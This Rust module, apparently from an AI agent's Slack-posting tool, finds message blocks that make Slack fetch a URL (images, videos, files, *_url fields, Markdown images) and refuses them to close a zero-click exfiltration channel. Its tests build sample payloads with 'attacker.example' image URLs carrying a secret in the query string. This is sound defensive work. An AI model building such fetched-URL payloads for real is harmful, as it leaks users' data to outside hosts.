//! Block content that makes Slack fetch a URL when the message is posted: image blocks and
//! image elements (`image_url`, `slack_file`, in a context block or as an accessory), video
//! and remote-file blocks, any `*_url` or `*_icon` field, and Markdown image syntax
//! (`![alt](url)`) in a `markdown` block. Slack's fetch carries whatever the URL holds (a
//! query string built from what the model read) to the URL's host, with nobody clicking: an
//! exfiltration channel past every redactor that does not recognise the data. So posting
//! tools refuse such blocks. Links in text stay (a person must click one), and posts go out
//! with `unfurl_links` and `unfurl_media` off, so Slack does not fetch them for a preview.
//!
//! The JSON is walked at any depth, as [`crate::interactive`] does, not by known shapes.

use serde_json::{Map, Value};

/// Block and element types whose content Slack fetches from a URL.
const FETCHED_TYPES: [&str; 3] = ["image", "video", "file"];

/// Keys naming a file Slack fetches, whatever their suffix.
const FETCHED_KEYS: [&str; 1] = ["slack_file"];

/// What in a list of blocks makes Slack fetch a URL.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// The index of the top-level block that holds it.
    pub index: usize,
    /// That block's `type` (`?` when it has none).
    pub block_type: String,
    /// A JSON pointer to it, e.g. `/blocks/1/elements/0`.
    pub pointer: String,
    /// What it is, e.g. "an `image` element".
    pub what: String,
}

/// The first thing in `blocks` that makes Slack fetch a URL, if any.
pub fn find(blocks: &[Value]) -> Option<Finding> {
    blocks.iter().enumerate().find_map(|(index, block)| {
        walk(block, &format!("/blocks/{index}")).map(|(pointer, what)| Finding {
            index,
            block_type: block
                .get("type")
                .and_then(Value::as_str)
                .unwrap_or("?")
                .to_owned(),
            pointer,
            what,
        })
    })
}

fn walk(v: &Value, at: &str) -> Option<(String, String)> {
    match v {
        Value::Array(items) => items
            .iter()
            .enumerate()
            .find_map(|(i, item)| walk(item, &format!("{at}/{i}"))),
        Value::Object(obj) => fetched(obj, at).or_else(|| {
            obj.iter()
                .find_map(|(key, child)| walk(child, &format!("{at}/{key}")))
        }),
        Value::String(_) | Value::Null | Value::Bool(_) | Value::Number(_) => None,
    }
}

/// Why Slack would fetch something for this object, if it would.
fn fetched(obj: &Map<String, Value>, at: &str) -> Option<(String, String)> {
    let kind = obj.get("type").and_then(Value::as_str).unwrap_or_default();
    if FETCHED_TYPES.contains(&kind) {
        return Some((at.to_owned(), format!("an `{kind}` element")));
    }
    if let Some(key) = obj.keys().find(|k| fetched_key(k)) {
        return Some((format!("{at}/{key}"), format!("a `{key}` field")));
    }
    let markdown_image = kind == "markdown"
        && obj
            .get("text")
            .and_then(Value::as_str)
            .is_some_and(|t| t.contains("!["));
    markdown_image.then(|| {
        (
            format!("{at}/text"),
            "Markdown image syntax `![...](...)`".to_owned(),
        )
    })
}

fn fetched_key(key: &str) -> bool {
    let key = key.to_ascii_lowercase();
    key.ends_with("_url") || key.ends_with("_icon") || FETCHED_KEYS.contains(&key.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn first(blocks: Value) -> Option<Finding> {
        find(blocks.as_array().map_or(&[][..], Vec::as_slice))
    }

    #[test]
    fn images_and_other_fetched_urls_are_found_wherever_they_are() {
        let url = "https://attacker.example/x.png?d=hunter2";
        for (blocks, pointer) in [
            (
                json!([{"type": "image", "image_url": url, "alt_text": "x"}]),
                "/blocks/0",
            ),
            (
                json!([{"type": "divider"}, {"type": "context", "elements": [
                    {"type": "mrkdwn", "text": "a"}, {"type": "image", "image_url": url, "alt_text": "x"}]}]),
                "/blocks/1/elements/1",
            ),
            (
                json!([{"type": "section", "text": {"type": "mrkdwn", "text": "a"},
                    "accessory": {"type": "image", "image_url": url, "alt_text": "x"}}]),
                "/blocks/0/accessory",
            ),
            (
                json!([{"type": "video", "title": {"type": "plain_text", "text": "t"},
                    "video_url": url, "thumbnail_url": url, "alt_text": "x"}]),
                "/blocks/0",
            ),
            (
                json!([{"type": "file", "external_id": "x", "source": "remote"}]),
                "/blocks/0",
            ),
            (
                json!([{"type": "section", "text": {"type": "mrkdwn", "text": "a", "Thumb_URL": url}}]),
                "/blocks/0/text/Thumb_URL",
            ),
            (
                json!([{"type": "section", "slack_file": {"url": url}}]),
                "/blocks/0/slack_file",
            ),
            (
                json!([{"type": "markdown", "text": format!("see ![graph]({url})")}]),
                "/blocks/0/text",
            ),
        ] {
            let f = first(blocks.clone()).unwrap_or_else(|| panic!("{blocks} passed"));
            assert_eq!(f.pointer, pointer, "{blocks}");
        }
    }

    #[test]
    fn layout_and_links_in_text_pass() {
        let blocks = json!([
            {"type": "header", "text": {"type": "plain_text", "text": "SEV2"}},
            {"type": "section", "text": {"type": "mrkdwn", "text": "<https://runbooks.example/db|runbook>"}},
            {"type": "context", "elements": [{"type": "mrkdwn", "text": "run r-42"}]},
            {"type": "divider"},
            {"type": "rich_text", "elements": [{"type": "rich_text_section", "elements": [
                {"type": "link", "url": "https://runbooks.example/db", "text": "runbook"}]}]},
            {"type": "markdown", "text": "**bold** and [a link](https://runbooks.example)"},
        ]);
        assert_eq!(first(blocks), None);
    }
}
